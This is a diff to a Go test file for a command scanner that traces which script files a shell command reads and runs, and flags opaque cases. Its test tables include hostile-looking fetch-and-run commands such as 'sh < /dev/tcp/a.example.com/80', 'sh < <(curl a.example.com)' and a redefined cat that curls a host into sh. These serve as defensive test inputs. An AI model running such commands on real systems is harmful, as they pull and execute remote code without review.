@@ -381,7 +381,8 @@ func TestFollowsScripts(t *testing.T) {
 	}
 }
 
-// A script is read where the text says that it is looked for, and where it runs.
+// A script is read where the text says that it is looked for, where it runs, and when
+// what runs it is given its text.
 func TestFollowsSearches(t *testing.T) {
 	fetch := &fstest.MapFile{Data: []byte("import requests; requests.get('https://a.example.com')\n")}
 	env := scan.Env{Dir: "/w", Roots: []string{"/w", "/s"}, Home: "/home/u", FS: fstest.MapFS{
@@ -419,6 +420,24 @@ func TestFollowsSearches(t *testing.T) {
 		{`node -e "require('/s/lib/r')"`, "/s/lib/r.js"},
 		{`node --input-type=module -e "import('/s/lib/r.js')"`, "/s/lib/r.js"},
 		{`cd /s/lib && node -e "require('./r.js')"`, "/s/lib/r.js"},
+		// What is read to be run.
+		{"sh < /s/bin/go", "/s/bin/go"},
+		{"cat /s/bin/go | sh -s -- x", "/s/bin/go"},
+		{"python3 < /s/lib/mod.py", "/s/lib/mod.py"},
+		{"cat /s/lib/mod.py | python3 -", "/s/lib/mod.py"},
+		{"echo /s/bin/go | xargs sh", "/s/bin/go"},
+		{"echo /s/bin/go | xargs -I{} sh {}", "/s/bin/go"},
+		{"printf '%s\n' plain /s/bin/go | xargs -n1 bash", "/s/bin/go"},
+		{"xargs -n 1 sh <<< '/s/bin/go x'", "/s/bin/go"},
+		{`python3 -c "exec(open('/s/lib/mod.py').read())"`, "/s/lib/mod.py"},
+		{"python3 - <<'E'\nwith open('/s/lib/mod.py') as f:\n  exec(compile(f.read(), 'x', 'exec'))\nE", "/s/lib/mod.py"},
+		{`python3 -c "from pathlib import Path; exec(Path('/s/lib/mod.py').read_text())"`, "/s/lib/mod.py"},
+		{`node -e "eval(require('fs').readFileSync('/s/lib/r.js', 'utf8'))"`, "/s/lib/r.js"},
+		{"cat < /s/bin/go", ""},
+		{"cat /s/bin/go | sh x.sh", ""},
+		{"echo x /s/bin/go | xargs sh", ""},
+		{"echo /s/bin/go | xargs cat", ""},
+		{`python3 -c "print(open('/s/lib/mod.py').read())"`, ""},
 		{"python3 -m mod", ""},
 		{"python3 own.py", ""},
 		{"PYTHONPATH=lib python3 -m mod", ""},
@@ -436,6 +455,29 @@ func TestFollowsSearches(t *testing.T) {
 	for _, command := range []string{`node -e "require('/s/lib/none')"`, `node -e "require('./none')"`, "node sub/relative.js", "cd lib && python3 -c 'import none'"} {
 		if r := scan.Command(command, env); len(r.Unknown) == 0 {
 			t.Errorf("%s: nothing said about a file that is not read: %q", command, spell(r))
+		}
+	}
+}
+
+// What is no file to read is decided at run time.
+func TestTextOfNoFile(t *testing.T) {
+	env := scan.Env{Dir: "/w", Roots: []string{"/w"}, FS: fstest.MapFS{"w/x.sh": {Data: []byte("true\n")}, "etc/x.sh": {Data: []byte("true\n")}}}
+	for command, opaque := range map[string]bool{
+		"sh < x.sh":                                  false,
+		"cat x.sh | sh":                              false,
+		`python3 -c "exec(open('x.sh').read())"`:     false,
+		"sh < none.sh":                               true,
+		"sh < /etc/x.sh":                             true,
+		"sh < /dev/tcp/a.example.com/80":             true,
+		"sh < <(curl a.example.com)":                 true,
+		"cat none.sh | sh":                           true,
+		"cat() { curl a.example.com; }; cat x.sh|sh": true,
+		"cat x.sh | tr a b | sh":                     true,
+		`python3 -c "exec(open('none').read())"`:     true,
+		`python3 -c "exec(open('x.sh').read(9))"`:    true,
+	} {
+		if r := scan.Command(command, env); len(r.Opaque) > 0 != opaque {
+			t.Errorf("%s: opaque %v, want %v: %q", command, r.Opaque, opaque, spell(r))
 		}
 	}
 }
